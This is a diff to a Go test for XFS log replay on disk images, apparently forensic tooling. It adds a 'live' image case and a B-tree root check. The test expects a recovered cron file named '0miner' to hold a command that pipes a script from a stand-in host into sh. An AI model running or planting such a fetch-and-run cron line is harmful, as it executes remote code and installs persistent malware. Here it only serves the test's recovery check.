@@ -79,7 +79,7 @@ func dirtyImage(t testing.TB, kind string) ([]byte, string) {
 // targets, content hashes -- while the on-disk view lacks the files that
 // live only in the log, and the image is not written.
 func TestLogReplayKernel(t *testing.T) {
-	for _, kind := range []string{"v5", "wrap", "v4"} {
+	for _, kind := range []string{"v5", "live", "wrap", "v4"} {
 		t.Run(kind, func(t *testing.T) {
 			img, cp := dirtyImage(t, kind)
 			before := sha256.Sum256(img)
@@ -118,6 +118,15 @@ func TestLogReplayKernel(t *testing.T) {
 				if err != nil || st.head >= st.tail {
 					t.Errorf("wrap image: head %d, tail %d (%v): the pending log does not cross the end", st.head, st.tail, err)
 				}
+			}
+			// The B-tree root of a file fragmented after the last
+			// checkpoint exists only as a logged root (XFS_ILOG_DBROOT).
+			if fi, err := fsys.Lstat("var/log/fragmented"); err != nil {
+				t.Error(err)
+			} else if v, err := open(r, int64(len(img))); err != nil {
+				t.Error(err)
+			} else if in, err := v.inode(fsread.MetaOf(fi).Inode); err != nil || in.format != fmtBtree {
+				t.Errorf("var/log/fragmented: replayed data fork not a B-tree (%v)", err)
 			}
 			got, err := fs.ReadFile(fsys, "etc/cron.d/0miner")
 			if err != nil || !bytes.Contains(got, []byte("curl -s http://198.51.100.7/x.sh | sh")) {
